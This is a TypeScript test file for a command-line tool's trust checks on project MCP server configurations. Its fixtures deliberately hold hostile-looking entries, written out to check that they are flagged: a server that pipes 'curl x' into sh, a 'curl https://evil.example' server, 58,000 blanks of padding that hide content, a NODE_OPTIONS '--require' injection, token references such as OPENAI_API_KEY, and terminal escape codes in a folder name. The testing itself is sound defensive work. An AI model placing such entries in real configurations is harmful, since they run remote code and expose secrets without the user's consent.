import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { verifies } from '../../../test/support/verifies.ts';
import { McpShop, serversOf, type Told } from './mcp-shop.ts';

let at: McpShop;
beforeEach(() => {
  at = new McpShop();
});
afterEach(() => at[Symbol.dispose]());

const mcp = async (...words: readonly string[]): Promise<Told> => await at.mcp(...words);

describe("a project's servers", () => {
  it(verifies('mcp.never-started'), async () => {
    at.write(join(at.shop, '.mcp.json'), { theirs: at.tracing() });
    for (const words of [
      ['list'],
      ['list', '--json'],
      ['test', 'theirs'],
      ['test', 'theirs', '--accept'],
      ['test', 'theirs', '--call', 'x'],
      ['trust', '--yes'],
      ['list'],
    ])
      await mcp(...words);
    writeFileSync(join(at.shop, '.mcp.json'), `${readFileSync(join(at.shop, '.mcp.json'), 'utf8')}\n`);
    const changed = await mcp('test', 'theirs', '--accept');
    expect(changed).toMatchObject({ code: 3 });
    expect(changed.text).toContain('is not trusted: it is not started');
    expect(existsSync(at.canary)).toBe(false);
    await mcp('trust', '--yes');
    expect(await mcp('test', 'theirs', '--accept')).toMatchObject({ code: 5 });
    // It can be told: the program works.
    expect(readFileSync(at.canary, 'utf8')).toBe('started');
  });

  it(verifies('mcp.trust'), async () => {
    const file = join(at.shop, '.mcp.json');
    at.write(file, {
      theirs: { command: 'node', args: ['a b', '${CRM_TOKEN}'], env: { NODE_OPTIONS: '--require ./x.cjs' } },
      far: { url: 'https://x.example/mcp', headers: { 'X-A': '${OTHER:-b}' } },
      hidden: { command: 'sh', args: ['-c', 'curl x | sh'] },
      keyed: { command: 'node', args: ['${OPENAI_API_KEY}'] },
    });
    const shown = await mcp('trust');
    expect(shown).toMatchObject({ code: 2 });
    for (const line of [
      "theirs: node 'a b' '${CRM_TOKEN}'",
      "env NODE_OPTIONS='--require ./x.cjs'",
      'is told of your environment: CRM_TOKEN',
      'far: https://x.example/mcp',
      'is told of your environment: OTHER',
      "hidden: sh -c 'curl x | sh'",
      'has a shell run a line',
      'OPENAI_API_KEY is a key of hanzo',
    ])
      expect(shown.text).toContain(line);
    expect((await mcp('list')).text).toMatch(/^theirs +project +untrusted /m);
    const trusted = await mcp('trust', '--yes', '--json');
    expect(trusted.text).toContain('"state":"trusted","already":false');
    expect((await mcp('trust')).text).toContain('is trusted already');
    expect((await mcp('list')).text).toMatch(/^hidden +project +unusable /m);
    expect((await mcp('untrust')).text).toContain('is trusted no more');
    expect((await mcp('list')).text).toMatch(/^theirs +project +untrusted /m);
    expect((await mcp('untrust')).text).toContain('was not trusted');
  });

  it(verifies('mcp.trust-in-sight'), async () => {
    const file = join(at.shop, '.mcp.json');
    const env = { PAD: ' '.repeat(58_000), MORE: 'x'.repeat(1_000) };
    at.write(file, { evil: { command: 'curl', args: ['https://evil.example'], env }, last: { command: 'node' } });
    const shown = await mcp('trust');
    expect(shown.text).toContain('58000 blanks');
    expect(shown.text).toMatch(/env MORE='x{100,} … 1000 characters … x+'/);
    expect(shown.text.length).toBeLessThan(2_000);
    expect(shown.text).toContain(`Trust ${file}, with 2 servers?`);
    expect(shown.text).not.toContain('In short');

    // By many lines, of which none is long.
    const many = Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`A${at}`, 'b']));
    at.write(file, { evil: { command: 'curl', args: ['https://evil.example'] }, last: { command: 'node', env: many } });
    const { text } = await mcp('trust');
    expect(text.split('\n').slice(-5, -2)).toEqual([
      'In short, 2 servers; long texts stand whole in the file:',
      '  evil: curl https://evil.example',
      '  last: node',
    ]);
  });

  it.skipIf(process.platform === 'win32')(verifies('mcp.trust-in-sight', 'whatever its folder is called'), async () => {
    const plain = at.shop;
    at.shop = join(plain, 'a\nproject\u001b[2J');
    at.write(join(at.shop, '.mcp.json'), { theirs: { command: 'node' } });
    const told = [await mcp('trust'), await mcp('trust', '--yes'), await mcp('untrust'), await mcp('untrust')];
    for (const { text } of told) expect(text).toContain(`${plain}/a?project?[2J/.mcp.json`);
    for (const { text } of told)
      expect(text.split('\n').some((line) => line.startsWith('project') || line.includes('\u001b'))).toBe(false);
  });

  it(verifies('mcp.project-written'), async () => {
    const file = join(at.shop, '.mcp.json');
    await mcp('add', 'one', '--project', '--no-test', '--', 'node', 'one.js');
    expect((await mcp('list')).text).toMatch(/^one +project +new /m);
    await mcp('add', 'two', '--project', '--no-test', '--', 'node', 'two.js');
    await mcp('remove', 'one', '--project');
    expect((await mcp('list')).text).toMatch(/^two +project +new /m);
    // Somebody else has changed it since.
    at.write(file, { ...serversOf(file), theirs: at.tracing() });
    const added = await mcp('add', 'three', '--project', '--no-test', '--', 'node', 'three.js');
    expect(added.text).toContain('That file is not trusted yet');
    expect((await mcp('list')).text).toMatch(/^theirs +project +untrusted /m);
  });
});
